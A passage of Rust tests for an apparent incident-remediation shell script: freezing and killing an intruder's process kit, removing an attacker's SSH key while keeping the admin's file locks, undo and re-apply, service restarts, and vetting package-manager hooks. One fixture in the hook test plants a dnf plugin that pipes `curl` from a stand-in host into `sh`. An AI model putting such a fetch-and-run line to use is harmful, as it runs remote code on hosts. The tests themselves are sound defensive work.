child=$!
printf '%s
%s
' "$$" "$child" >cg/kit/cgroup.procs
if mt_freeze_cgroup /kit; then echo "with a new child: frozen $(cat cg/kit/cgroup.freeze)"; else echo 'with a new child: refused'; fi
: >cg/kit/cgroup.freeze
MT_SET_CGROUPS=()
MT_SET_SEEN[$child]=1
if mt_freeze_cgroup /kit; then echo 'with a process the scan left out: frozen'; else echo "with a process the scan left out: refused [$(cat cg/kit/cgroup.freeze)]"; fi
kill "$child" 2>/dev/null
"#;
    let (rc, out) = bash(dir.path(), body);
    assert_eq!(rc, 0, "{out}");
    assert!(out.contains("with a new child: frozen 1"), "{out}");
    assert!(
        out.contains("with a process the scan left out: refused []"),
        "{out}"
    );
}

#[test]
fn kit_bytes_under_a_package_directory_are_no_member() {
    let dir = tempfile::tempdir().unwrap();
    // Review s4 #1, the script's side: a fresh copy of kit bytes is a member (a miner downloaded again),
    // but a program under a package directory with those bytes is the host's.
    let body = set_bench(
        r#"
printf miner >usr/bin/python3.11
printf miner >fresh
exec 7<usr/bin/python3.11 8<fresh
member "1:1" "$size" /proc/$$/fd/7 'packaged copy'
member "1:2" "$size" /proc/$$/fd/8 'fresh copy'
"#,
    );
    let (rc, out) = bash(dir.path(), &body);
    assert_eq!(rc, 0, "{out}");
    assert!(out.contains("packaged copy: not"), "{out}");
    assert!(out.contains("fresh copy: member"), "{out}");
}

#[test]
fn the_operators_own_account_and_the_last_administrator_are_never_locked() {
    let dir = tempfile::tempdir().unwrap();
    // Review s4 #5, the script's side: an account the plan locks on a weak tie may be the one the
    // operator logged in with, or the only member of sudo on a host whose root has no password.
    let body = format!(
        r#"
{}
mt_admin_groups 8 || echo 'bad groups'
MT_PROC_SELF=$PWD/self MT_ETC=$PWD/etc
mkdir self etc
echo 1000 >self/loginuid
printf 'root:x:0:\nsudo:x:27:alice\nwheel:x:10:\n' >etc/group
check() {{ MT_NAME=$1; if mt_lock_refused "$2"; then echo "$1: refused ($MT_NOTE)"; else echo "$1: may be locked"; fi; }}
check bob 1000
check alice 1001
check git 998
printf 'sudo:x:27:alice,carol\n' >etc/group
check alice 1001
"#,
        lock_record(&[b"sudo", b"wheel", b"admin"])
    );
    let (rc, out) = bash(dir.path(), &body);
    assert_eq!(rc, 0, "{out}");
    let lines: Vec<&str> = out.lines().collect();
    assert!(lines[0].starts_with("bob: refused (the operator"), "{out}");
    assert!(
        lines[1].starts_with("alice: refused (the last member"),
        "{out}"
    );
    assert_eq!(lines[2], "git: may be locked", "{out}");
    assert_eq!(lines[3], "alice: may be locked", "{out}");
}

/// A `lock` record for account alice (uid 1001) carrying `groups` as the plan's administrators' groups.
fn lock_record(groups: &[&[u8]]) -> String {
    let count = groups.len().to_string();
    let mut f: Vec<&[u8]> = vec![
        b"9",
        b"lock",
        b"repair",
        b"t",
        b"t",
        b"w",
        b"alice",
        b"1001",
        count.as_bytes(),
    ];
    f.extend_from_slice(groups);
    f.push(b"");
    record(&f)
}

/// Issue 11: the groups whose last member is never locked are the plan's (the analyzer's `admin_group`
/// indicators, an `--iocs` file's included), not a list of the template's own: a group the plan does not
/// name protects nobody, one it names does; a record whose group list is malformed is refused whole.
#[test]
fn the_administrators_groups_are_the_plans() {
    let dir = tempfile::tempdir().unwrap();
    let body = format!(
        r#"
MT_PROC_SELF=$PWD/self MT_ETC=$PWD/etc
mkdir self etc
echo 0 >self/loginuid
printf 'sudo:x:27:alice\nwheel2:x:1010:dave\n' >etc/group
{}
mt_admin_groups 8 || echo 'bad groups'
check() {{ MT_NAME=$1; if mt_lock_refused "$2"; then echo "$1: refused"; else echo "$1: may be locked"; fi; }}
check alice 1001
check dave 1002
{}
mt_state_lock
echo "no count: $MT_STATE ($MT_NOTE)"
{}
mt_state_lock
echo "one name short: $MT_STATE ($MT_NOTE)"
"#,
        lock_record(&[b"wheel2"]),
        record(&[b"9", b"lock", b"repair", b"t", b"t", b"w", b"alice", b"1001", b""]),
        record(&[
            b"9", b"lock", b"repair", b"t", b"t", b"w", b"alice", b"1001", b"2", b"wheel2", b"",
        ]),
    );
    let (rc, out) = bash(dir.path(), &body);
    assert_eq!(rc, 0, "{out}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines,
        [
            "alice: may be locked",
            "dave: refused",
            "no count: mismatch (the plan record is malformed)",
            "one name short: mismatch (the plan record is malformed)",
        ],
        "{out}"
    );
}

/// An edit bench: `home/.ssh/authorized_keys` holds the admin's key and the attacker's (line 2, planned
/// for removal, gate open); chattr and lsattr are stubs keeping each path's flags in `FL` (the file and
/// its directory start as `$FILE_FLAGS` and `$DIR_FLAGS`); the evidence copy is in place.
fn edit_bench(policy: &str, body: &str) -> String {
    format!(
        r#"
MT_MODE=apply MT_Q=$PWD/q
mkdir -p q/files q/work home/.ssh
f=$PWD/home/.ssh/authorized_keys
printf 'ssh-ed25519 AAAAadmin admin@bastion\nssh-ed25519 AAAAevil x@y\n' >"$f"
cp -- "$f" q/files/1.bin
hexof() {{ local h; h=$(printf '%s' "$1" | od -An -v -tx1 | tr -d ' \n'); printf '%s' "${{h:--}}"; }}
read -r dev ino size < <(stat -c '%d %i %s' -- "$f")
sum=$(sha256sum <"$f")
sum=${{sum%% *}}
MT_F=(32 $(hexof edit) 70 74 74 77 $(hexof "$f") $(hexof "$dev") $(hexof "$ino") $(hexof "$sum") $(hexof "$size") \
  31 31 $(hexof 36) $(hexof 29) $(hexof 'ssh-ed25519 AAAAevil x@y') $(hexof AAAAevil) - $(hexof {policy}) \
  $(hexof {policy}) $(hexof "${{SEEN_F-}}") $(hexof "${{SEEN_D-}}") -)
declare -A FL=(["$f"]=$FILE_FLAGS ["${{f%/*}}"]=$DIR_FLAGS)
MT_FLAGTOOL=chattr MT_LSATTR=lsattr
chattr() {{
  local op=$1 l
  [[ $op == -i ]] && shift && op=-ia
  shift 2
  case $op in
  -ia) FL[$1]='' ;;
  +*) for l in i a; do [[ ${{op#+}} == *$l* && ${{FL[$1]-}} != *$l* ]] && FL[$1]+=$l; done ;;
  esac
  echo "chattr $op ${{1#$PWD/}}" >>calls
}}
lsattr() {{ printf -- '--%s--e-- %s\n' "${{FL[$3]-}}" "$3"; }}
mt_not_under_bind() {{ return 0; }}
: >calls
{body}
"#
    )
}

#[test]
fn an_edited_file_the_host_keeps_gets_its_flags_back_and_undo_too() {
    let dir = tempfile::tempdir().unwrap();
    // Review #10: the admin locked authorized_keys (+i) and ~/.ssh (+a); removing the attacker's key clears
    // both to rewrite the file, then sets them again; the undo record carries them, so undoing the edit
    // leaves them set too.
    let body = format!(
        "FILE_FLAGS=i DIR_FLAGS=a SEEN_F=i SEEN_D=a\n{}",
        edit_bench(
            "restore",
            r#"
mt_state_edit
echo "state: $MT_STATE"
mt_apply_edit 2
echo "rc=$? $MT_NOTE"
echo "after: file ${FL[$f]-} dir ${FL[${f%/*}]-} content $(tr '\n' '|' <"$f")"
echo "undo: $(cat q/undo.records)"
MT_FAILED=0
MT_RECS=(- "31 $(hexof preserve-file) 70 74 74 77 $(hexof "$f") $(hexof "$dev") $(hexof "$ino") $(hexof "$sum") $(hexof "$size") -")
mt_undo >/dev/null
echo "undone: file ${FL[$f]-} dir ${FL[${f%/*}]-} lines $(wc -l <"$f") failed $MT_FAILED"
"#
        )
    );
    let (rc, out) = bash(dir.path(), &body);
    assert_eq!(rc, 0, "{out}");
    assert!(out.contains("state: pending"), "{out}");
    assert!(out.contains("rc=0 removed 1 line(s)"), "{out}");
    assert!(
        out.contains("after: file i dir a content ssh-ed25519 AAAAadmin admin@bastion|"),
        "{out}"
    );
    assert!(
        out.contains(" i a\n"),
        "undo record carries the flags:\n{out}"
    );
    assert!(
        out.contains("undone: file i dir a lines 2 failed 0"),
        "{out}\n{}",
        calls(dir.path())
    );
}

#[test]
fn an_edit_is_refused_when_a_lock_the_snapshot_saw_cannot_be_read_back() {
    let dir = tempfile::tempdir().unwrap();
    // Review of train 1, item 5: the snapshot saw +i on the file; at run time no verified tool reads the
    // flags (chattr verified, lsattr not, no python3): clearing them would lose the admin's lock for
    // good, so the file is not edited at all (fail closed).
    let body = format!(
        "FILE_FLAGS=i DIR_FLAGS= SEEN_F=i SEEN_D=\n{}",
        edit_bench(
            "restore",
            r#"
MT_LSATTR='' MT_PYREAD=''
mt_state_edit
mt_apply_edit 2
echo "rc=$? $MT_NOTE"
echo "after: file [${FL[$f]-}] keys $(grep -c ssh-ed25519 "$f")"
"#
        )
    );
    let (rc, out) = bash(dir.path(), &body);
    assert_eq!(rc, 0, "{out}");
    assert!(out.contains("rc=1 not changed: the snapshot saw"), "{out}");
    assert!(out.contains("after: file [i] keys 2"), "{out}");
}

#[test]
fn only_a_lock_the_snapshot_saw_too_is_set_again() {
    let dir = tempfile::tempdir().unwrap();
    // Review of train 2, item 7: the snapshot saw +i on the file and nothing on ~/.ssh; by --apply the
    // kit's cron has run `chattr +ia` on both again. The edit clears everything, sets again only the
    // file's +i (seen both times), leaves +a and the directory's +i cleared, and says so; the undo
    // record carries only the +i.
    let body = format!(
        "FILE_FLAGS=ia DIR_FLAGS=i SEEN_F=i SEEN_D=\n{}",
        edit_bench(
            "restore",
            r#"
mt_state_edit
mt_apply_edit 2
echo "rc=$? $MT_NOTE"
echo "after: file [${FL[$f]-}] dir [${FL[${f%/*}]-}]"
echo "undo: $(cat q/undo.records)"
"#
        )
    );
    let (rc, out) = bash(dir.path(), &body);
    assert_eq!(rc, 0, "{out}");
    assert!(out.contains("rc=0 removed 1 line(s)"), "{out}");
    assert!(out.contains("after: file [i] dir []"), "{out}");
    assert!(
        out.contains(
            "a lock the snapshot did not see was found (+a on the file, +i on its directory)"
        ),
        "{out}"
    );
    assert!(
        out.contains(" i -\n"),
        "undo record carries only +i:\n{out}"
    );
    // One edit with these flags (FILE_FLAGS/DIR_FLAGS at run time, SEEN_F/SEEN_D in the snapshot).
    let edit = |flags: &str| {
        let dir = tempfile::tempdir().unwrap();
        let script = r#"
mt_state_edit
mt_apply_edit 2
echo "rc=$? after: file [${FL[$f]-}] dir [${FL[${f%/*}]-}] $MT_NOTE"
"#;
        let (rc, out) = bash(
            dir.path(),
            &format!("{flags}\n{}", edit_bench("restore", script)),
        );
        assert_eq!(rc, 0, "{out}");
        out
    };
    // A lock the snapshot saw that is gone at run time is not set again either.
    let out = edit("FILE_FLAGS= DIR_FLAGS=a SEEN_F=i SEEN_D=a");
    assert!(out.contains("rc=0 after: file [] dir [a]"), "{out}");
    // Review of train 1 (session 6), item 5: a snapshot that could not read the flags (`?`: an image
    // mounted through fuse, NFS) says nothing against the admin's lock read now: set again, no note.
    let out = edit("FILE_FLAGS=i DIR_FLAGS=a SEEN_F=? SEEN_D=?");
    assert!(out.contains("rc=0 after: file [i] dir [a]"), "{out}");
    assert!(!out.contains("did not see"), "{out}");
}

#[test]
fn an_attributed_lock_stays_cleared_after_the_edit() {
    let dir = tempfile::tempdir().unwrap();
    // The plan says the lock is the intrusion's (MT-EVA-001 high): the edit leaves it cleared.
    let body = format!(
        "FILE_FLAGS=ia DIR_FLAGS=\n{}",
        edit_bench(
            "clear",
            r#"
mt_state_edit
mt_apply_edit 2
echo "rc=$? file [${FL[$f]-}] dir [${FL[${f%/*}]-}]"
"#
        )
    );
    let (rc, out) = bash(dir.path(), &body);
    assert_eq!(rc, 0, "{out}");
    assert!(out.contains("rc=0 file [] dir []"), "{out}");
}

#[test]
fn a_second_apply_redoes_nothing_the_first_completed() {
    let dir = tempfile::tempdir().unwrap();
    // Review #12: the first --apply removes the attacker's key (edit 2) and deletes a rule (fw-delete 3);
    // the operator then puts both back (the key was theirs after all; the rule too). A second --apply
    // re-does neither: both show `reverted`, nothing is deleted or rewritten, and --verify lists them.
    let body = format!(
        "FILE_FLAGS= DIR_FLAGS=\n{}\n{}",
        firewall_stubs("legacy"),
        edit_bench(
            "restore",
            r#"
MT_DATA_SHA256=$(printf 'plan' | sha256sum)
MT_DATA_SHA256=${MT_DATA_SHA256%% *}
printf 'filter\n' >net/ip_tables_names
: >rule
iptables() {
  printf 'iptables %s\n' "$*" >>calls
  case "$*" in
  -V) echo 'iptables v1.8.9 (legacy)' ;;
  *' -C '*) [[ -e rule ]] ;;
  *' -D '*) rm -f rule ;;
  esac
}
edit="${MT_F[*]}"
fw="33 $(hexof fw-delete) 70 74 74 77 $(hexof 4) $(hexof filter) $(hexof 5) $(hexof INPUT) $(hexof -p) $(hexof tcp) $(hexof -j) $(hexof ACCEPT) -"
MT_RECS=(- "31 $(hexof preserve-file) 70 74 74 77 $(hexof "$f") $(hexof "$dev") $(hexof "$ino") $(hexof "$sum") $(hexof "$size") -" "$edit" "$fw" "34 $(hexof verify) 70 74 74 77 -")
run() { ( MT_FAILED=0; mt_journal_load; mt_apply_all >out.$1; echo "failed=$MT_FAILED" >>out.$1 ); }
run 1
echo "first: key $(grep -c AAAAevil "$f") rule $([[ -e rule ]] && echo present || echo gone)"
cp -- q/files/1.bin "$f"
: >rule
: >calls
run 2
echo "second: key $(grep -c AAAAevil "$f") rule $([[ -e rule ]] && echo present || echo gone) deletes $(grep -c -- ' -D ' calls)"
cat out.2
( mt_journal_load; mt_verify_all; echo "verify=$?" ) >out.v
cat out.v
# The operator decides the key must go after all: --redo 2 (only that item).
MT_REDO=,2,
: >calls
run 3
echo "third: key $(grep -c AAAAevil "$f") rule $([[ -e rule ]] && echo present || echo gone) deletes $(grep -c -- ' -D ' calls)"
"#
        )
    );
    let (rc, out) = bash(dir.path(), &body);
    assert_eq!(rc, 0, "{out}");
    assert!(out.contains("first: key 0 rule gone"), "{out}");
    assert!(
        out.contains("second: key 1 rule present deletes 0"),
        "{out}\n{}",
        calls(dir.path())
    );
    assert!(
        out.matches("already (completed by an earlier --apply")
            .count()
            == 1
            && out.contains("already (1 line(s) removed by an earlier --apply are back"),
        "{out}"
    );
    // The final check names them: they are not as the plan left them (the operator's, or a comeback).
    assert!(out.contains("2 item(s) remain"), "{out}");
    // --verify fails, each with the command that carries it out again; --redo does only what it names.
    assert!(out.contains("verify=1"), "{out}");
    for n in [2, 3] {
        assert!(
            out.contains(&format!(
                "re-do:  bash remediate.sh --apply --redo {n}
"
            )),
            "{out}"
        );
    }
    assert!(
        out.contains("third: key 0 rule present deletes 0"),
        "{out}
{}",
        calls(dir.path())
    );
}

#[test]
fn a_held_back_process_brings_nothing_into_the_set_through_the_kit_leaders_group() {
    let dir = tempfile::tempdir().unwrap();
    // Review #11: the kit script leads its own session and group (setsid bash kit/run.sh); in it run a
    // plain child (a member: the kit's) and a process the plan holds back (a review item not named) with
    // a child of its own. The held process is skipped, and its child, though in the kit leader's group
    // and session, stays out: it descends from the skipped process, not from a member.
    let body = r#"
mkdir -p kit
printf '%s\n' "bash -c 'sleep 300 & wait' &" 'sleep 300 &' 'wait' >kit/run.sh
kit=$(realpath kit/run.sh)
hexof() { printf '%s' "$1" | od -An -v -tx1 | tr -d ' \n'; }
field() { local st; st=$(<"/proc/$1/stat") || return 1; local -a f; read -r -a f <<<"${st##*) }"; REPLY=${f[$2]}; }
children() { local s p; for s in /proc/[0-9]*/stat; do p=${s#/proc/}; p=${p%%/*}; field "$p" 1 2>/dev/null && [[ $REPLY == "$1" ]] && printf '%s %s\n' "$p" "$(<"/proc/$p/comm")"; done; }
# Started out of the bench shell's tree (the scan never takes this script's descendants).
( setsid bash "$kit" </dev/null >/dev/null 2>&1 & echo $! >kpid )
K=$(<kpid)
for i in $(seq 400); do [[ -n $(children "$K" | grep -w bash) ]] && break; sleep 0.05; done
sleep 0.2
H=$(children "$K" | awk '$2 == "bash" { print $1 }')
S=$(children "$K" | awk '$2 == "sleep" { print $1 }')
C=$(children "$H" | awk '{ print $1 }')
field "$H" 19
hstart=$REPLY
read -r id size < <(stat -L -c '%d:%i %s' -- "$kit")
MT_F=(31 $(hexof kill-set) 6b 74 74 77 $(hexof 1) $(hexof "$H") $(hexof "$hstart") $(hexof 7) \
  $(hexof 1) $(hexof "${id%%:*}") $(hexof "${id#*:}") $(hexof "$kit") - - - \
  $(hexof 1) $(hexof bash) $(hexof 0) $(hexof 0) $(hexof 0) -)
mt_set_fields || echo 'fields refused'
mt_set_scan
for v in K H S C; do
  if [[ -n ${MT_SET[${!v}]-} ]]; then echo "$v member"; else echo "$v not"; fi
done
kill -KILL "$C" "$S" "$H" "$K" 2>/dev/null
"#;
    let (rc, out) = bash(dir.path(), body);
    assert_eq!(rc, 0, "{out}");
    assert!(!out.contains("refused"), "{out}");
    for want in ["K member", "S member", "H not", "C not"] {
        assert!(out.contains(want), "{want}:\n{out}");
    }
}

#[test]
fn the_operators_shell_in_the_kits_session_keeps_its_other_children() {
    let dir = tempfile::tempdir().unwrap();
    // Review #11: the operator's shell O sits in the kit leader's session and group (the kit started it,
    // its parent exited); from O the operator runs the script (P) and has a job of their own (X). O is
    // skipped as the script's ancestor; X, in the kit leader's group, descends from O, not from a member:
    // never in the set. The kit's own child (S) is.
    let body = r#"
mkdir -p kit
hexof() { printf '%s' "$1" | od -An -v -tx1 | tr -d ' \n'; }
field() { local st; st=$(<"/proc/$1/stat") || return 1; local -a f; read -r -a f <<<"${st##*) }"; REPLY=${f[$2]}; }
children() { local s p; for s in /proc/[0-9]*/stat; do p=${s#/proc/}; p=${p%%/*}; field "$p" 1 2>/dev/null && [[ $REPLY == "$1" ]] && printf '%s %s\n' "$p" "$(<"/proc/$p/comm")"; done; }
# The scan as the operator's script P runs it: the template's functions, then the set record.
cat >scan.body <<'EOF2'
mt_set_fields || echo 'fields refused'
mt_set_scan
for v in K O X S; do
  if [[ -n ${MT_SET[${!v}]-} ]]; then echo "$v member"; else echo "$v not"; fi
done
EOF2
printf '%s\n' '( bash -c "sleep 300 & while [[ ! -e go ]]; do sleep 0.05; done; bash scan.sh >out 2>&1; wait" & )' 'sleep 300 &' 'wait' >kit/run.sh
kit=$(realpath kit/run.sh)
( setsid bash "$kit" </dev/null >/dev/null 2>&1 & echo $! >kpid )
K=$(<kpid)
# O: the bash in K's session whose parent is not K (its own parent exited).
for i in $(seq 400); do
  O=''
  for s in /proc/[0-9]*/stat; do
    p=${s#/proc/}
    p=${p%%/*}
    [[ $p != "$K" && $(<"/proc/$p/comm") == bash ]] 2>/dev/null || continue
    field "$p" 3 && [[ $REPLY == "$K" ]] && field "$p" 1 && [[ $REPLY != "$K" ]] && O=$p
  done
  [[ -n $O ]] && break
  sleep 0.05
done
X=''
for p in $(children "$O" | awk '$2 == "sleep" { print $1 }'); do
  [[ $(tr '\0' ' ' <"/proc/$p/cmdline") == 'sleep 300 ' ]] && X=$p
done
S=$(children "$K" | awk '$2 == "sleep" { print $1; exit }')
echo "children of K: $(children "$K" | tr '\n' ' ')"
echo "children of O: $(children "$O" | tr '\n' ' ')"
read -r id size < <(stat -L -c '%d:%i %s' -- "$kit")
{
  declare -p | grep -E '^declare -[-aAirx]+ MT_' | grep -v -E ' MT_(DATA|DATA_SHA256)='
  declare -f
  printf 'K=%s O=%s X=%s S=%s\n' "$K" "$O" "$X" "$S"
  printf 'MT_F=(31 %s 6b 74 74 77 %s %s %s %s %s - - - %s %s %s %s %s -)\n' "$(hexof kill-set)" "$(hexof 0)" \
    "$(hexof 1)" "$(hexof "${id%%:*}")" "$(hexof "${id#*:}")" "$(hexof "$kit")" "$(hexof 1)" "$(hexof bash)" \
    "$(hexof 0)" "$(hexof 0)" "$(hexof 0)"
  cat scan.body
} >scan.sh
: >go
for i in $(seq 600); do [[ -s out ]] && grep -q '^S ' out && break; sleep 0.05; done
cat out
echo "O=$O X=$X S=$S K=$K"
kill -KILL "$X" "$S" "$O" "$K" 2>/dev/null
"#;
    let (rc, out) = bash(dir.path(), body);
    assert_eq!(rc, 0, "{out}");
    assert!(!out.contains("refused"), "{out}");
    for want in ["K member", "S member", "O not", "X not"] {
        assert!(out.contains(want), "{want}:\n{out}");
    }
}

#[test]
fn dash_running_a_deleted_kit_script_is_in_the_set() {
    let dir = tempfile::tempdir().unwrap();
    // Review leftover: dash keeps the script it reads on a descriptor of 10 or more, not bash's 255. Once
    // the kit script is deleted, its path names nothing: the descriptor, named `PATH (deleted)` by the
    // kernel, is how the scan still finds the watchdog. A dash whose own (deleted) script is not the kit's
    // but which holds a deleted kit file on descriptor 12 is no member.
    if Command::new("dash").arg("-c").arg(":").status().is_err() {
        panic!("dash is needed for this test (the CI image has it: apt-get install dash)");
    }
    let body = r#"
mkdir -p kit
printf 'sleep 300\n' >kit/run.sh
printf 'sleep 300\n' >kit/reader.sh
printf 'x\n' >kit/data
kit=$(realpath kit/run.sh)
data=$(realpath kit/data)
hexof() { printf '%s' "$1" | od -An -v -tx1 | tr -d ' \n'; }
read -r id size < <(stat -L -c '%d:%i %s' -- "$kit")
read -r did dsize < <(stat -L -c '%d:%i %s' -- "$data")
# Started out of the bench shell's tree (the scan never takes this script's descendants).
( cd kit && { dash ./run.sh </dev/null >/dev/null 2>&1 & echo $! >../dpid; } )
( dash kit/reader.sh </dev/null >/dev/null 2>&1 12<"$data" & echo $! >rpid )
D=$(<dpid) R=$(<rpid)
for i in $(seq 400); do [[ -e /proc/$D/fd/10 && -e /proc/$R/fd/12 ]] && break; sleep 0.05; done
rm -f -- "$kit" "$data" kit/reader.sh
MT_F=(31 $(hexof kill-set) 6b 74 74 77 $(hexof 0) $(hexof 2) \
  $(hexof "${id%%:*}") $(hexof "${id#*:}") $(hexof "$kit") - - - \
  $(hexof "${did%%:*}") $(hexof "${did#*:}") $(hexof "$data") - - - \
  $(hexof 1) $(hexof dash) $(hexof 0) $(hexof 0) $(hexof 0) -)
mt_set_fields || echo 'fields refused'
mt_set_scan
for v in D R; do
  if [[ -n ${MT_SET[${!v}]-} ]]; then echo "$v member"; else echo "$v not"; fi
done
# dash waits for its sleep: the children go first, then the shells.
for s in /proc/[0-9]*/stat; do
  st=$(<"$s") 2>/dev/null || continue
  read -r -a f <<<"${st##*) }"
  [[ ${f[1]} == "$D" || ${f[1]} == "$R" ]] && kill -KILL "${s//[^0-9]/}" 2>/dev/null
done
kill -KILL "$D" "$R" 2>/dev/null
true
"#;
    let (rc, out) = bash(dir.path(), body);
    assert_eq!(rc, 0, "{out}");
    assert!(!out.contains("refused"), "{out}");
    assert!(out.contains("D member"), "{out}");
    assert!(out.contains("R not"), "{out}");
}

/// A restart bench: `sleep` stands for the host's service process that mapped the injected code, its
/// unit file `etc/systemd/system/redis-server.service` is the one the manager loads (`FRAG` says which),
/// it runs in the unit's cgroup unless `CGROUP_OK=0`, and `systemctl restart` ends it (as a restart
/// would). `body` runs after the record is selected.
fn restart_bench(body: &str) -> String {
    format!(
        r#"
MT_MODE=apply MT_Q=$PWD/q
mkdir -p q etc/systemd/system
unit=$PWD/etc/systemd/system/redis-server.service
printf '[Service]\nExecStart=/usr/bin/redis-server\n' >"$unit"
sleep 300 &
pid=$!
stat=$(</proc/$pid/stat)
read -r -a f <<<"${{stat##*) }}"
start=${{f[19]}}
read -r dev ino size < <(stat -c '%d %i %s' -- "$unit")
sum=$(sha256sum <"$unit")
sum=${{sum%% *}}
hexof() {{ printf '%s' "$1" | od -An -v -tx1 | tr -d ' \n'; }}
MT_F=(3a 72657374617274 726570616972 74 74 77 $(hexof "$unit") $(hexof "$dev") $(hexof "$ino") $(hexof "$sum") $(hexof "$size") $(hexof redis-server.service) $(hexof "$pid") $(hexof "$start") 31)
FRAG=$unit CGROUP_OK=1
: >calls
timeout() {{ shift; "$@"; }}
mt_systemd() {{ return 0; }}
mt_in_unit() {{ [[ $1 == "$pid" && $2 == redis-server.service && $CGROUP_OK == 1 ]]; }}
systemctl() {{
  echo "systemctl $*" >>calls
  case "$*" in
  *FragmentPath*) echo "$FRAG" ;;
  'restart -- redis-server.service') kill "$pid"; wait "$pid" 2>/dev/null ;;
  esac
  return 0
}}
iptables() {{ return 1; }}
ip6tables() {{ return 1; }}
nft() {{ return 1; }}
{body}
kill "$pid" 2>/dev/null || :
"#
    )
}

/// Issue 13, MT-RUN-037: the restart of the host's service runs `systemctl restart` on the planned
/// unit only while the snapshot's process still runs in it and the manager loads the snapshot's unit
/// file; it is done once that process is gone, says it cannot be undone, and --undo says so too.
#[test]
fn a_service_restart_is_done_once_the_process_that_mapped_the_code_is_gone() {
    let dir = tempfile::tempdir().unwrap();
    let body = r#"
mt_state_restart; echo "before: $MT_STATE ($MT_NOTE)"
mt_apply_restart 9; echo "apply: rc=$? $MT_NOTE"
mt_state_restart; echo "after: $MT_STATE"
mt_undo
"#;
    let (rc, out) = bash(dir.path(), &restart_bench(body));
    assert_eq!(rc, 0, "{out}");
    assert!(
        out.contains("before: pending") && out.contains("cannot be undone"),
        "{out}"
    );
    assert!(out.contains("apply: rc=0 restarted"), "{out}");
    assert!(out.contains("after: done"), "{out}");
    assert!(
        out.contains("undo 9: a service restart cannot be undone"),
        "{out}"
    );
    let log = calls(dir.path());
    assert_eq!(
        log.lines()
            .filter(|l| l.starts_with("systemctl restart"))
            .collect::<Vec<_>>(),
        vec!["systemctl restart -- redis-server.service"],
        "{log}"
    );

    // Another unit file loaded under the name, the process out of the unit, the unit file changed: no
    // restart is pending (the operator restarts by hand).
    for (setup, why) in [
        (
            "FRAG=/lib/systemd/system/redis-server.service",
            "another file",
        ),
        ("CGROUP_OK=0", "no longer in the unit"),
        (
            "echo 'ExecStartPre=/tmp/x' >>\"$unit\"",
            "not the snapshot's",
        ),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let body = format!("{setup}\nmt_state_restart; echo \"state: $MT_STATE ($MT_NOTE)\"\n");
        let (rc, out) = bash(dir.path(), &restart_bench(&body));
        assert_eq!(rc, 0, "{out}");
        assert!(
            out.contains("state: mismatch") && out.contains(why),
            "{setup}: {out}"
        );
        assert!(
            !calls(dir.path()).contains("restart --"),
            "{}",
            calls(dir.path())
        );
    }
    // Only the system manager's own unit (slices, then the unit) is the planned unit; a container's
    // unit of the same name is not (review of train 2, item 8).
    let dir = tempfile::tempdir().unwrap();
    let body = r#"
for line in 0::/system.slice/redis-server.service 1:name=systemd:/system.slice/redis-server.service   0::/system.slice/system-redis.slice/redis-server.service 0::/lxc.payload.c1/system.slice/redis-server.service   0::/machine.slice/libpod-4f2a.scope/container/system.slice/redis-server.service 0::/system.slice/xredis-server.service   0::/system.slice/redis-server.service/extra; do
  if mt_cgroup_is_unit "$line" redis-server.service; then echo "unit: $line"; else echo "other: $line"; fi
done
"#;
    let (rc, out) = bash(dir.path(), body);
    assert_eq!(rc, 0, "{out}");
    for want in [
        "unit: 0::/system.slice/redis-server.service",
        "unit: 1:name=systemd:/system.slice/redis-server.service",
        "unit: 0::/system.slice/system-redis.slice/redis-server.service",
        "other: 0::/lxc.payload.c1/system.slice/redis-server.service",
        "other: 0::/machine.slice/libpod-4f2a.scope/container/system.slice/redis-server.service",
        "other: 0::/system.slice/xredis-server.service",
        "other: 0::/system.slice/redis-server.service/extra",
    ] {
        assert!(out.lines().any(|l| l == want), "{want}:\n{out}");
    }
    // A unit name that is no service unit name is a malformed record.
    let dir = tempfile::tempdir().unwrap();
    let body =
        "MT_F[11]=$(hexof '-x.service')\nmt_state_restart; echo \"state: $MT_STATE ($MT_NOTE)\"\n";
    let (_, out) = bash(dir.path(), &restart_bench(body));
    assert!(out.contains("malformed"), "{out}");
}

/// Issue 13, rpm hosts: dnf, yum and rpm run their own hooks at a reinstall, as dpkg does (dnf imports
/// every module of its plugin directories, enabled or not; yum the plugins a pluginconf.d file
/// enables; the post-transaction-actions plugins run their action files' commands; rpm loads the
/// plugins and runs the shell and Lua expansions its macro files name). Each is refused unless rpm
/// vouches for the file (its digest as the package lists it, stubbed here by the `vouched` list of
/// paths and digests); a
/// macro file of plain settings, a disabled yum plugin and the packaged plugin directories named in
/// dnf.conf are no hook.
#[test]
fn dnf_yum_and_rpm_hooks_no_package_vouches_for_refuse_a_reinstall() {
    let dir = tempfile::tempdir().unwrap();
    let body = r#"
r=$PWD/r
: >vouched
sha() { local s; s=$(sha256sum <"$1"); printf '%s' "${s%% *}"; }
mt_rpm_verified() { grep -q -F -x -e "$1 $(sha "$1")" vouched; }
put() { mkdir -p "$(dirname "$r/$1")"; printf '%s\n' "$2" >"$r/$1"; }
vouch() { printf '%s %s\n' "$r/$1" "$(sha "$r/$1")" >>vouched; }
ok() { if mt_rpm_hooks_ok "$r"; then echo "$1: ok"; else echo "$1: refused ($MT_NOTE)"; fi; }
undo() { rm -rf -- "$r/$1"; }
# A packaged host: dnf's own plugins and their byte code, a dnf.conf naming the packaged directories,
# rpm's macros (Lua, plugins) as the packages ship them, an admin's plain macro file.
put usr/lib/python3.9/site-packages/dnf-plugins/builddep.py 'import dnf'; vouch usr/lib/python3.9/site-packages/dnf-plugins/builddep.py
put usr/lib/python3.9/site-packages/dnf-plugins/__pycache__/builddep.cpython-39.pyc 'pyc'; vouch usr/lib/python3.9/site-packages/dnf-plugins/__pycache__/builddep.cpython-39.pyc
put etc/dnf/dnf.conf $'[main]\ngpgcheck=1\npluginpath=/usr/lib/python3.9/site-packages/dnf-plugins/\npluginconfpath = /etc/dnf/plugins'
put usr/lib/rpm/macros.d/macros.transaction_syslog '%__transaction_syslog %{__plugindir}/syslog.so'; vouch usr/lib/rpm/macros.d/macros.transaction_syslog
put etc/rpm/macros.image-language-conf '%_install_langs en_US'
put usr/lib/yum-plugins/evil.py 'import os'
put etc/yum/pluginconf.d/evil.conf $'[main]\nenabled=0'
put etc/dnf/plugins/post-transaction-actions.d/README.action '# key:state:command'
ok clean
put usr/lib/python3.9/site-packages/dnf-plugins/aaa.py 'import os; os.system("curl -s http://127.66.1.1/x|sh")'
ok dnfplugin; undo usr/lib/python3.9/site-packages/dnf-plugins/aaa.py
